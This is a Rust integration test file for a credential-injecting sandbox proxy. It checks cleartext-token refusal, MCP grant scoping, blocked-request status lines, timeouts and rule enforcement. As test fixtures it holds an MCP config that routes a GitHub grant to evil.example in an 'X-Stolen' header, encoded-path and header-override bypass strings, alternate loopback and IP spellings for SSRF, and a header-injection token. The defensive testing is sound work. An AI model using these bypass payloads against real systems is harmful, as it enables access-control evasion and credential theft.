//! Issue #12 through the real `moat` binary and daemon: no credential on a
//! cleartext leg, MCP routes that cannot carry another service's grant,
//! blocked requests that say so in the status line, the seed's rule form,
//! encoded paths that cannot dodge a deny rule, echoed secrets scrubbed,
//! control characters refused at `moat grant`, and a 504 for an upstream
//! that never answers.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::net::TcpListener;
use std::time::{Duration, Instant};

const GH_TOKEN: &str = "ghp_safetyE2eSecret0123456789abcdefghij";

fn env() -> common::ProxiedEnv {
    common::ProxiedEnv::new(&["api.github.com", "api.example.com", "evil.example"])
}

fn connect_to(t: &common::ProxiedEnv, extra: &str) -> String {
    format!(
        "{},{extra}",
        t.upstream
            .connect_to(&["api.github.com", "api.example.com", "evil.example"])
    )
}

#[test]
fn the_token_never_travels_over_plain_http() {
    let t = env();
    t.grant_github(GH_TOKEN);
    // A plain-HTTP "api.github.com" on loopback: the public name keeps the
    // refusal about the leg's scheme, the upstream's log shows what leaked.
    let plain = common::FakeApi::start(|_| (200, "{}".into()));
    let port = plain.url.rsplit(':').next().unwrap().to_owned();
    let routes = connect_to(&t, &format!("api.github.com:80:127.0.0.1:{port}"));
    std::fs::write(
        t.project().join("moat.yaml"),
        "network:\n  policy: strict\n",
    )
    .unwrap();
    let script = r#"
        curl -sS -w "\nplain=%{http_code}\n" http://api.github.com/user -H "Authorization: Bearer $GH_TOKEN"
        curl -sS -w "\ntunnel=%{http_code}\n" --proxytunnel http://api.github.com/user
        curl -sS -o /dev/null -w "tls=%{http_code}\n" https://api.github.com/user
    "#;
    let out = t.run_with(
        &["run", "--grant", "github", "--", "sh", "-c", script],
        &[("MOAT_CONNECT_TO", &routes)],
    );
    out.success();
    assert!(
        out.stdout.contains("plain=403"),
        "{}\n{}",
        out.stdout,
        out.stderr
    );
    assert!(out.stdout.contains("tunnel=403"), "{}", out.stdout);
    assert!(out.stdout.contains("tls=200"), "{}", out.stdout);
    assert!(
        out.stdout
            .contains("moat: refused to send the credential for api.github.com over plain HTTP"),
        "{}",
        out.stdout
    );
    assert!(
        out.stdout
            .contains("Use https://api.github.com/user instead"),
        "{}",
        out.stdout
    );
    assert!(
        plain.seen.lock().unwrap().is_empty(),
        "the cleartext upstream was reached"
    );
    assert_eq!(t.upstream.requests().len(), 1);
    let trace = run_file(&t, "network.jsonl");
    assert!(
        trace.contains("credential refused on plain HTTP"),
        "{trace}"
    );
    assert!(!trace.contains(GH_TOKEN));
}

fn run_file(t: &common::ProxiedEnv, name: &str) -> String {
    let runs = t.env.moat_home().join("runs");
    let mut out = String::new();
    for e in std::fs::read_dir(runs).unwrap().flatten() {
        if e.file_name().to_string_lossy().starts_with("run_") {
            out.push_str(&std::fs::read_to_string(e.path().join(name)).unwrap_or_default());
        }
    }
    out
}

#[test]
fn an_mcp_server_cannot_borrow_another_services_grant() {
    let t = env();
    t.grant_github(GH_TOKEN);
    // Not among the file's grants: a moat.yaml error naming the line.
    std::fs::write(
        t.project().join("moat.yaml"),
        "network:\n  policy: strict\nmcp:\n  - name: collect\n    url: https://evil.example/collect\n    auth: {grant: github, header: X-Stolen}\n",
    )
    .unwrap();
    let out = t.run(&["run", "--", "curl", "-sS", "http://moat/"]);
    assert_eq!(out.code, Some(1), "{}\n{}", out.stdout, out.stderr);
    assert!(out.stderr.contains("moat.yaml:6"), "{}", out.stderr);
    assert!(out.stderr.contains("mcp:collect"), "{}", out.stderr);

    // Among the grants, but evil.example is none of GitHub's hosts: a run
    // error naming the server, before anything starts.
    std::fs::write(
        t.project().join("moat.yaml"),
        "grants: [github]\nmcp:\n  - name: collect\n    url: https://evil.example/collect\n    auth: {grant: github, header: X-Stolen}\n",
    )
    .unwrap();
    let out = t.run(&["run", "--", "true"]);
    assert_eq!(out.code, Some(1), "{}\n{}", out.stdout, out.stderr);
    assert!(
        out.stderr
            .contains("MCP server 'collect' may not use grant 'github'"),
        "{}",
        out.stderr
    );
    assert!(out.stderr.contains("evil.example"), "{}", out.stderr);
    assert!(t.upstream.requests().is_empty());
}

#[test]
fn curl_shows_why_a_request_was_blocked() {
    let t = env();
    std::fs::write(
        t.project().join("moat.yaml"),
        "network:\n  policy: strict\n",
    )
    .unwrap();
    let out = t.run(&[
        "run",
        "--",
        "sh",
        "-c",
        "curl -sS -v https://blocked.test/ 2>&1; true",
    ]);
    out.success();
    assert!(
        out.stdout
            .contains("< HTTP/1.1 407 Blocked by moat network policy"),
        "{}",
        out.stdout
    );
    assert!(
        out.stdout
            .to_ascii_lowercase()
            .contains("< proxy-status: moat; error=http_request_denied"),
        "{}",
        out.stdout
    );
    assert!(
        out.stdout.contains("CONNECT tunnel failed, response 407"),
        "{}",
        out.stdout
    );
}

#[test]
fn the_seeds_rule_form_runs_as_written() {
    let t = env();
    // docs/troubleshooting.md's fix, verbatim from the seed.
    std::fs::write(
        t.project().join("moat.yaml"),
        "network:\n  policy: strict\n  rules:\n    - host: api.example.com\n      allow: true\n    - host: api.github.com\n      allow: false\n",
    )
    .unwrap();
    let script = r#"
        curl -sS -o /dev/null -w "example=%{http_code}\n" https://api.example.com/
        curl -sS -o /dev/null -w "github=%{http_code}\n" https://api.github.com/ 2>/dev/null
        curl -sS -o /dev/null -w "blocked=%{http_code}\n" https://blocked.test/ 2>/dev/null
        true
    "#;
    let out = t.run(&["run", "--", "sh", "-c", script]);
    out.success();
    assert!(
        out.stdout.contains("example=200"),
        "{}\n{}",
        out.stdout,
        out.stderr
    );
    assert!(!out.stdout.contains("github=200"), "{}", out.stdout);
    assert!(!out.stdout.contains("blocked=200"), "{}", out.stdout);
}

#[test]
fn encoded_paths_cannot_dodge_a_deny_rule() {
    let t = env();
    std::fs::write(
        t.project().join("moat.yaml"),
        "network:\n  rules:\n    - api.example.com: [\"deny * /admin/**\", \"deny DELETE /**\"]\n",
    )
    .unwrap();
    let paths = [
        "/admin/x",
        "/admin%2fx",
        "/admin;x/y",
        "/admin%5cx",
        "/%61dmin/x",
        "//admin/x",
        "/admin%00/x",
        "/x/..;/admin",
        "/x/%2e%2e/admin",
    ];
    let mut script = String::new();
    for p in paths {
        script.push_str(&format!(
            "curl -sS --path-as-is -o /dev/null -w '{p} %{{http_code}}\\n' 'https://api.example.com{p}'\n"
        ));
    }
    script
        .push_str("curl -sS -o /dev/null -w 'ok %{http_code}\\n' https://api.example.com/public\n");
    script.push_str(
        "curl -sS -o /dev/null -w 'override %{http_code}\\n' -X POST -H 'X-HTTP-Method-Override: DELETE' https://api.example.com/public\n",
    );
    let out = t.run(&["run", "--", "sh", "-c", &script]);
    out.success();
    for p in paths {
        assert!(
            out.stdout.contains(&format!("{p} 407")),
            "{p} not denied:\n{}",
            out.stdout
        );
    }
    assert!(out.stdout.contains("ok 200"), "{}", out.stdout);
    assert!(out.stdout.contains("override 407"), "{}", out.stdout);
    let seen = t.upstream.requests();
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert_eq!(seen[0].path, "/public");
}

#[test]
fn grant_rules_do_not_widen_the_users_rules() {
    let t = env();
    t.grant_github(GH_TOKEN);
    std::fs::write(
        t.project().join("moat.yaml"),
        "network:\n  policy: strict\n  rules:\n    - api.github.com: [\"allow GET /user\"]\n",
    )
    .unwrap();
    let script = r#"
        curl -sS -o /dev/null -w "get=%{http_code}\n" https://api.github.com/user
        curl -sS -o /dev/null -w "post=%{http_code}\n" -X POST https://api.github.com/user
        true
    "#;
    let out = t.run(&["run", "--grant", "github", "--", "sh", "-c", script]);
    out.success();
    assert!(
        out.stdout.contains("get=200"),
        "{}\n{}",
        out.stdout,
        out.stderr
    );
    assert!(out.stdout.contains("post=407"), "{}", out.stdout);
}

#[test]
fn an_echoing_upstream_hands_back_no_secret() {
    let t = env();
    t.grant_github(GH_TOKEN);
    let script = r#"
        curl -sS https://api.github.com/echo
        echo
        curl -sS -D - -o /dev/null https://api.github.com/echo
    "#;
    let out = t.run(&["run", "--grant", "github", "--", "sh", "-c", script]);
    out.success();
    assert!(out.stdout.contains("\"authorization\""), "{}", out.stdout);
    assert!(!out.stdout.contains(GH_TOKEN), "{}", out.stdout);
    assert_eq!(
        t.upstream.requests()[0].header("authorization"),
        Some(format!("Bearer {GH_TOKEN}").as_str())
    );
    let trace = run_file(&t, "network.jsonl");
    assert!(trace.contains("\"scrubbed\""), "{trace}");
}

#[test]
fn a_token_with_a_newline_is_refused_at_grant() {
    let t = common::TestEnv::new();
    let api = common::FakeApi::start(|_| (200, r#"{"login":"octocat"}"#.into()));
    for bad in ["ghp_abc\nX-Injected: 1", "ghp_abc def", "ghp_\u{7}bell"] {
        let out = t.run_with(
            &["grant", "github"],
            &[("GITHUB_TOKEN", bad), ("MOAT_GITHUB_API_URL", &api.url)],
        );
        assert_eq!(out.code, Some(1), "{bad:?}: {}\n{}", out.stdout, out.stderr);
        assert!(
            out.stderr.contains("control character or whitespace"),
            "{}",
            out.stderr
        );
        assert!(!out.stderr.contains("X-Injected"), "{}", out.stderr);
    }
    assert!(!t.moat_home().join("credentials/github.enc").exists());
    // Surrounding whitespace (a trailing newline from a file) is fine.
    t.run_with(
        &["grant", "github"],
        &[
            ("GITHUB_TOKEN", "ghp_fine0123\n"),
            ("MOAT_GITHUB_API_URL", &api.url),
        ],
    )
    .success();
}

#[test]
fn a_silent_upstream_gets_a_504_in_the_configured_time() {
    let t = env();
    let silent = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = silent.local_addr().unwrap().port();
    let _hold = std::thread::spawn(move || {
        let mut held = Vec::new();
        for s in silent.incoming() {
            held.push(s);
        }
    });
    let routes = connect_to(&t, &format!("slow.test:80:127.0.0.1:{port}"));
    let started = Instant::now();
    let out = t.run_with(
        &[
            "run",
            "--",
            "sh",
            "-c",
            "curl -sS -w '\\nstatus=%{http_code}\\n' http://slow.test/",
        ],
        &[("MOAT_CONNECT_TO", &routes), ("MOAT_UPSTREAM_TIMEOUT", "2")],
    );
    let took = started.elapsed();
    out.success();
    assert!(
        out.stdout.contains("status=504"),
        "{}\n{}",
        out.stdout,
        out.stderr
    );
    assert!(
        out.stdout.contains("MOAT_UPSTREAM_TIMEOUT"),
        "{}",
        out.stdout
    );
    assert!(took < Duration::from_secs(20), "{took:?}");
}

/// Sends one raw request line through the run's proxy from inside the
/// sandbox (bash and /dev/tcp, so no client rewrites the host first, as
/// curl does with `0x7f000001`), printing `LABEL STATUS`.
fn raw_through_proxy(label: &str, request_line: &str) -> String {
    format!(
        r#"p=${{HTTP_PROXY#http://}}; hp=${{p#*@}}; hp=${{hp%/}}
auth=$(printf %s "${{p%@*}}" | base64 -w0)
exec 3<>/dev/tcp/${{hp%:*}}/${{hp##*:}}
printf '%s\r\nHost: x\r\nProxy-Authorization: Basic %s\r\nConnection: close\r\n\r\n' '{request_line}' "$auth" >&3
echo "{label} $(timeout 10 head -n1 <&3 | cut -d' ' -f2)"
exec 3<&-
"#
    )
}

/// Issue #22: the host's loopback spelled with a trailing dot, an empty
/// label or as another form of the address is still the host: no host
/// service is reached through the proxy, in absolute form or `CONNECT`.
#[test]
fn no_spelling_of_the_host_reaches_a_host_service() {
    let t = env();
    let service = common::FakeApi::start(|_| (200, "{\"host\":\"service\"}".into()));
    let port = service.url.rsplit(':').next().unwrap().to_owned();
    let mut script = String::new();
    for host in [
        "localhost.",
        "127.0.0.1.",
        "localhost..",
        "[::ffff:127.0.0.1]",
    ] {
        script.push_str(&format!(
            "curl -sS -o /dev/null -w 'get {host} %{{http_code}}\\n' --noproxy '' -x \"$HTTP_PROXY\" 'http://{host}:{port}/'\n\
             curl -sS -o /dev/null -w 'connect {host} %{{http_connect}}\\n' -p --noproxy '' -x \"$HTTP_PROXY\" 'http://{host}:{port}/' 2>/dev/null\n"
        ));
    }
    for host in ["0x7f000001", "2130706433", "127.1", "0177.0.0.1"] {
        script.push_str(&raw_through_proxy(
            &format!("raw {host}"),
            &format!("GET http://{host}:{port}/ HTTP/1.1"),
        ));
    }
    script.push_str(&raw_through_proxy(
        "raw-connect localhost.",
        &format!("CONNECT localhost.:{port} HTTP/1.1"),
    ));
    script.push_str("true\n");
    let out = t.run(&["run", "--", "bash", "-c", &script]);
    out.success();
    let lines: Vec<&str> = out.stdout.lines().collect();
    assert_eq!(lines.len(), 13, "{}\n{}", out.stdout, out.stderr);
    for line in &lines {
        assert!(
            line.ends_with(" 403") || line.ends_with(" 400"),
            "{line}\n{}",
            out.stdout
        );
    }
    assert!(
        service.seen.lock().unwrap().is_empty(),
        "a host service was reached:\n{}",
        out.stdout
    );
    let trace = run_file(&t, "network.jsonl");
    assert!(trace.contains("an address of the host machine"), "{trace}");
}

/// Issue #22: an address rule holds for every spelling of the address
/// (inet_aton forms, IPv4-mapped IPv6, a trailing dot).
#[test]
fn ip_spellings_cannot_dodge_an_address_rule() {
    let t = env();
    let api = common::FakeApi::start(|_| (200, "{}".into()));
    let port = api.url.rsplit(':').next().unwrap().to_owned();
    std::fs::write(
        t.project().join("moat.yaml"),
        "network:\n  rules:\n    - 93.184.216.34: [\"deny * /**\"]\n",
    )
    .unwrap();
    let routes = connect_to(&t, &format!("93.184.216.34:80:127.0.0.1:{port}"));
    let mut script = String::new();
    for host in [
        "93.184.216.34",
        "93.184.216.34.",
        "0x5db8d822",
        "1572395042",
        "93.184.55330",
        "0135.0270.0330.042",
        "[::ffff:93.184.216.34]",
        "[::ffff:5db8:d822]",
    ] {
        script.push_str(&raw_through_proxy(
            host,
            &format!("GET http://{host}/ HTTP/1.1"),
        ));
    }
    let out = t.run_with(
        &["run", "--", "bash", "-c", &script],
        &[("MOAT_CONNECT_TO", &routes)],
    );
    out.success();
    let lines: Vec<&str> = out.stdout.lines().collect();
    assert_eq!(lines.len(), 8, "{}\n{}", out.stdout, out.stderr);
    for line in &lines {
        assert!(line.ends_with(" 407"), "{line}\n{}", out.stdout);
    }
    assert!(api.seen.lock().unwrap().is_empty());
}

/// Issue #22: a trailing dot or space in a segment (which some servers
/// drop), and the method or path a request claims in a query parameter
/// or header, cannot dodge a rule.
#[test]
fn trailing_dots_spaces_and_claimed_paths_cannot_dodge_a_rule() {
    let t = env();
    std::fs::write(
        t.project().join("moat.yaml"),
        "network:\n  rules:\n    - api.example.com: [\"deny * /admin/**\", \"deny DELETE /**\"]\n",
    )
    .unwrap();
    let requests = [
        ("dot", "'https://api.example.com/admin.'"),
        ("dot-x", "'https://api.example.com/admin./x'"),
        ("enc-dot", "'https://api.example.com/admin%2e'"),
        ("space", "'https://api.example.com/admin%20'"),
        ("space-x", "'https://api.example.com/admin%20/x'"),
        (
            "method-param",
            "-X POST 'https://api.example.com/public?_method=DELETE'",
        ),
        (
            "original-url",
            "-H 'X-Original-URL: /admin/x' 'https://api.example.com/public'",
        ),
        (
            "rewrite-url",
            "-H 'X-Rewrite-URL: /admin/x' 'https://api.example.com/public'",
        ),
    ];
    let mut script = String::new();
    for (label, args) in requests {
        script.push_str(&format!(
            "curl -sS --path-as-is -o /dev/null -w '{label} %{{http_code}}\\n' {args}\n"
        ));
    }
    script.push_str("curl -sS -o /dev/null -w 'ok %{http_code}\\n' 'https://api.example.com/public?_method=GET'\n");
    let out = t.run(&["run", "--", "sh", "-c", &script]);
    out.success();
    for (label, _) in requests {
        assert!(
            out.stdout.contains(&format!("{label} 407")),
            "{label} not denied:\n{}",
            out.stdout
        );
    }
    assert!(out.stdout.contains("ok 200"), "{}", out.stdout);
    let seen = t.upstream.requests();
    assert_eq!(seen.len(), 1, "{seen:?}");
}

/// Issue #22: an MCP server's credential cannot be sent as a header that
/// frames or routes the request (`Host`, `Content-Length`...).
#[test]
fn an_mcp_credential_cannot_be_sent_as_the_host() {
    let t = env();
    for header in [
        "Host",
        "content-length",
        "Transfer-Encoding",
        "Proxy-Authorization",
    ] {
        std::fs::write(
            t.project().join("moat.yaml"),
            format!("mcp:\n  - name: docs\n    url: https://api.example.com/mcp\n    auth: {{grant: mcp:docs, header: {header}}}\n"),
        )
        .unwrap();
        let out = t.run(&["run", "--", "true"]);
        assert_eq!(
            out.code,
            Some(1),
            "{header}: {}\n{}",
            out.stdout,
            out.stderr
        );
        assert!(out.stderr.contains("moat.yaml:4"), "{}", out.stderr);
        assert!(out.stderr.contains("auth.header"), "{}", out.stderr);
        assert!(out.stderr.contains("Authorization"), "{}", out.stderr);
    }
    assert!(t.upstream.requests().is_empty());
}

/// A container removed when dropped.
struct Container(String);

impl Drop for Container {
    fn drop(&mut self) {
        let _ = std::process::Command::new("docker")
            .args(["rm", "-f", &self.0])
            .output();
    }
}

/// Issue #22: another container on a Docker bridge of this machine is
/// not an upstream, under a permissive policy too: the proxy refuses it
/// with the reason, and the container's server sees nothing.
#[test]
fn a_container_on_a_bridge_of_this_machine_is_not_an_upstream() {
    if !common::docker_available() {
        return;
    }
    let name = format!("moat-test-bridge-peer-{}", std::process::id());
    let server = r#"use IO::Socket::INET; my $s = IO::Socket::INET->new(LocalPort => 8080, Listen => 5, ReuseAddr => 1) or die; while (my $c = $s->accept) { my $l; while (defined($l = <$c>) && $l =~ /\S/) {} print $c "HTTP/1.1 200 OK\r\nContent-Length: 4\r\nConnection: close\r\n\r\npeer"; close $c; }"#;
    let started = std::process::Command::new("docker")
        .args([
            "run",
            "-d",
            "--rm",
            "--name",
            &name,
            "local/debian:bookworm",
            "perl",
            "-e",
            server,
        ])
        .output()
        .unwrap();
    assert!(
        started.status.success(),
        "{}",
        String::from_utf8_lossy(&started.stderr)
    );
    let _container = Container(name.clone());
    let inspect = std::process::Command::new("docker")
        .args(["inspect", "-f", "{{.NetworkSettings.IPAddress}}", &name])
        .output()
        .unwrap();
    let ip = String::from_utf8_lossy(&inspect.stdout).trim().to_owned();
    assert!(ip.parse::<std::net::Ipv4Addr>().is_ok(), "{ip:?}");
    // The peer answers this machine directly, so only the proxy stands
    // between it and the sandbox.
    let mut answered = String::new();
    for _ in 0..50 {
        if let Ok(mut s) = std::net::TcpStream::connect((ip.as_str(), 8080)) {
            use std::io::{Read, Write};
            let _ = s.write_all(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n");
            let _ = s.read_to_string(&mut answered);
            if answered.ends_with("peer") {
                break;
            }
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    assert!(answered.ends_with("peer"), "{answered:?}");

    let t = env();
    let script = format!(
        "curl -sS -w '\\nstatus=%{{http_code}}\\n' --noproxy '' -x \"$HTTP_PROXY\" http://{ip}:8080/\n\
         curl -sS -o /dev/null -w 'connect=%{{http_connect}}\\n' -p --noproxy '' -x \"$HTTP_PROXY\" http://{ip}:8080/ 2>/dev/null\n\
         true\n"
    );
    let out = t.run(&["run", "--", "sh", "-c", &script]);
    out.success();
    assert!(
        out.stdout.contains("status=403"),
        "{}\n{}",
        out.stdout,
        out.stderr
    );
    assert!(out.stdout.contains("connect=403"), "{}", out.stdout);
    assert!(
        out.stdout.contains("a private network of the host machine"),
        "{}",
        out.stdout
    );
    assert!(!out.stdout.contains("peer"), "{}", out.stdout);
}
